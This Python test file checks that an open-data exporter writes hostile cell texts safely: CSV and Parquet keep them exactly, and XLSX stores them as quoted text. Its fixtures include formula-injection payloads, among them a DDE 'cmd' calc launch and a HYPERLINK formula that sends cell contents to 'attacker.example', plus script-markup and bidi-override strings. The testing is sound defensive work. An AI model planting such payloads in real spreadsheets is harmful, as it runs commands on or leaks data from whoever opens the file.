"""Cells that somebody wrote to do harm, or that no format foresees: CSV and Parquet give them as they are, a sheet as text."""

from __future__ import annotations

import csv
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pandas
import pytest
from python_calamine import CalamineWorkbook

from entente.foundation.common import packed as packed_files
from entente.foundation.common.packed import joined, packed
from entente.surfaces.opendata.tables import table_named
from entente.surfaces.opendata.workbook import CELL_LENGTH_MAX, CUT, Told, put_together, sheet_rows, sheets_of
from entente.surfaces.opendata.writers import ParquetFile, csv_heading, some_rows

TEXTS = {
    "formula": "=cmd|' /C calc'!A0",
    "sum": "=SUM(1,2)",
    "plus": "+1+1",
    "minus": "-2-3",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "link": '=HYPERLINK("https://attacker.example?"&A1,"look")',
    "quotes": 'He said "no", twice',
    "lines": "one\ntwo\r\nthree\rfour",
    "markup": "</t></is></c><script>&amp;]]>",
    "right to left": "\u202eabc\u202c שלום \u200f",
    "spaces": "  kept  ",
    "number": "007",
    "day": "2026-03-01",
    "nothing": "NA",
    "emoji": "👩🏽‍🌾",
    "escape": "_x000D_",
    "two escapes": "a_x0041_x0042_",
}
READ_AS_WRITTEN = {"escape": "_x005F_x000D_", "two escapes": "a_x005F_x0041_x005F_x0042_"}
"""openpyxl gives a sign that the file writes as _xHHHH_ by these very letters; Excel, LibreOffice and calamine read it."""
CONTROLS = "a\x00b\x01c\x0bd\x1fe\ufffef"
LONG = "ä" * (1 << 20)
WIDE = "x" + "👩🏽‍🌾" * 6000
"""Each of these signs is seven UTF-16 units: 24,001 letters for Python, and more than a cell holds."""
HOSTILE = (*TEXTS.items(), ("controls", CONTROLS), ("long", LONG), ("wide", WIDE))


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One table with a hostile text in each row, in the three formats."""
    folder = tmp_path_factory.mktemp("hostile")
    table = table_named("pillars")
    assert table is not None
    columns = table.columns_in(["en"])
    rows = [[name, "plan", "1", text, None] for name, text in HOSTILE]
    pieces = [some_rows(some) for some in (rows[:7], rows[7:])]
    (folder / "t.csv").write_bytes(csv_heading(columns) + b"".join(one.csv for one in pieces))
    parquet = ParquetFile(folder / "t.parquet", columns)
    for one in pieces:
        parquet.add(one.csv, one.many)
    parquet.close()
    with (folder / "t.xlsx").open("wb") as out:
        sheets = sheets_of(
            "t",
            [one.name for one in columns],
            [Told(one.many, one.sheet.size) for one in pieces],
            [one.sheet for one in pieces],
        )
        put_together(out, list(sheets), title="t", at=datetime(2026, 3, 1, tzinfo=UTC))
    return folder


def test_csv_gives_every_text_to_the_letter(written: Path) -> None:
    csv.field_size_limit(1 << 22)
    with (written / "t.csv").open(encoding="utf-8", newline="") as file:
        found = {row["pillar"]: row["title_en"] for row in csv.DictReader(file)}
    assert found == {**TEXTS, "controls": CONTROLS, "long": LONG, "wide": WIDE}


def test_parquet_gives_every_text_to_the_letter(written: Path) -> None:
    frame = pandas.read_parquet(written / "t.parquet")
    assert dict(zip(frame["pillar"], frame["title_en"], strict=True)) == {
        **TEXTS, "controls": CONTROLS, "long": LONG, "wide": WIDE,
    }  # fmt: skip


def test_a_sheet_has_texts_and_never_a_formula(written: Path) -> None:
    sheet = openpyxl.load_workbook(written / "t.xlsx")["t"]
    cells = {row[0].value: row[3] for row in sheet.iter_rows(min_row=2)}
    assert {cell.data_type for cell in cells.values()} <= {"s", "inlineStr"}
    found = {name: str(cells[name].value) for name in TEXTS}
    assert {name: text for name, text in found.items() if text != TEXTS[name]} == READ_AS_WRITTEN
    assert cells["controls"].value == "abcdef"
    quoted = {name for name, cell in cells.items() if cell.quotePrefix}  # stays a text when somebody edits it
    assert quoted == {"formula", "sum", "plus", "minus", "at", "tab", "link"}


def test_calamine_reads_every_text_to_the_letter(written: Path) -> None:
    rows = CalamineWorkbook.from_path(written / "t.xlsx").get_sheet_by_index(0).to_python()
    found = {row[0]: row[3] for row in rows if row[0] in TEXTS}
    assert found == TEXTS


@pytest.mark.office
def test_libreoffice_reads_every_text_as_a_text(written: Path) -> None:
    """Of a lone carriage return it makes a line end."""
    folder = f"-env:UserInstallation=file://{written}/profile"
    as_csv = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    command = [
        "soffice",
        folder,
        "--headless",
        "--convert-to",
        as_csv,
        "--outdir",
        str(written),
        str(written / "t.xlsx"),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    with (written / "t-t.csv").open(encoding="utf-8", newline="") as file:
        found = {row["pillar"]: row["title_en"] for row in csv.DictReader(file)}
    assert {name: found[name] for name in TEXTS} == {**TEXTS, "lines": "one\ntwo\nthree\nfour"}
    assert found["controls"] == "abcdef"
    assert units(found["wide"]) <= CELL_LENGTH_MAX


def test_a_text_that_no_cell_holds_is_cut_in_the_sheet_and_says_so(written: Path) -> None:
    sheet = openpyxl.load_workbook(written / "t.xlsx")["t"]
    (long,) = [row[3].value for row in sheet.iter_rows(min_row=2) if row[0].value == "long"]
    assert (len(long), long.endswith(CUT), long[0]) == (CELL_LENGTH_MAX, True, "ä")


def units(text: str) -> int:
    """As a cell counts a text."""
    return len(text.encode("utf-16-le")) // 2


def test_a_cell_counts_as_spreadsheets_do_and_no_sign_is_cut_in_two(written: Path) -> None:
    sheet = openpyxl.load_workbook(written / "t.xlsx")["t"]
    (wide,) = [str(row[3].value) for row in sheet.iter_rows(min_row=2) if row[0].value == "wide"]
    kept = wide.removesuffix(CUT)
    assert (WIDE.startswith(kept), wide != kept) == (True, True)
    assert CELL_LENGTH_MAX - 1 <= units(wide) <= CELL_LENGTH_MAX


def test_rows_that_no_sheet_holds_go_on_in_the_next_one(tmp_path: Path) -> None:
    name = "a-name-of-thirty-one-letters-yes"[:31]
    pieces = [range(2), range(2, 3), range(3, 5), range(5, 7)]
    rows = [packed(sheet_rows([number] for number in piece)) for piece in pieces]
    with (tmp_path / "t.xlsx").open("wb") as out:
        told = [Told(len(piece), one.size) for piece, one in zip(pieces, rows, strict=True)]
        sheets = list(sheets_of(name, ["number"], told, rows, rows_max=4))
        put_together(out, sheets, title="t", at=datetime(2026, 3, 1, tzinfo=UTC))
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    found = {one: [row[0].value for row in book[one].iter_rows()] for one in book.sheetnames}
    assert found == {
        name: ["number", 0, 1, 2],
        f"{name[:29]} 2": ["number", 3, 4],
        f"{name[:29]} 3": ["number", 5, 6],
    }
    assert {one: book[one].auto_filter.ref for one in book.sheetnames} == {
        name: "A1:A4",
        f"{name[:29]} 2": "A1:A3",
        f"{name[:29]} 3": "A1:A3",
    }


def test_sheets_too_large_for_a_plain_head_are_read_by_everybody(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A sheet says beforehand how many bytes it holds: here as if two thousand were too many."""
    monkeypatch.setattr(packed_files, "LARGE", 2000)
    rows = packed(sheet_rows([number, f"row {number}"] for number in range(200)))
    few = packed(sheet_rows([[1, "row 1"]]))
    with (tmp_path / "t.xlsx").open("wb") as out:
        large = sheets_of("large", ["number", "text"], [Told(200, rows.size)] * 2, [rows, rows])
        small = sheets_of("small", ["number", "text"], [Told(1, few.size)], [few])
        put_together(out, [*large, *small], title="t", at=datetime(2026, 3, 1, tzinfo=UTC))
    with zipfile.ZipFile(tmp_path / "t.xlsx") as archive:
        heads = {one.filename: one.extract_version for one in archive.infolist()}
        sizes = {one.filename: one.file_size for one in archive.infolist()}
    assert [heads[f"xl/worksheets/sheet{number}.xml"] for number in (1, 2)] == [45, 20]  # 4.5 knows the larger sizes
    assert sizes["xl/worksheets/sheet1.xml"] > 2000 > sizes["xl/worksheets/sheet2.xml"]
    expected = [["number", "text"], *([float(number), f"row {number}"] for number in range(200))]
    assert [list(row) for row in openpyxl.load_workbook(tmp_path / "t.xlsx")["large"].values][:201] == expected
    assert CalamineWorkbook.from_path(str(tmp_path / "t.xlsx")).get_sheet_by_name("large").to_python()[:201] == expected


def test_a_sheet_says_how_many_bytes_it_holds() -> None:
    rows = packed(sheet_rows([[number] for number in range(5)]))
    for sheet in sheets_of("t", ["number"], [Told(5, rows.size)] * 3, [rows] * 3, rows_max=11):
        assert sheet.size == joined(sheet.parts).size
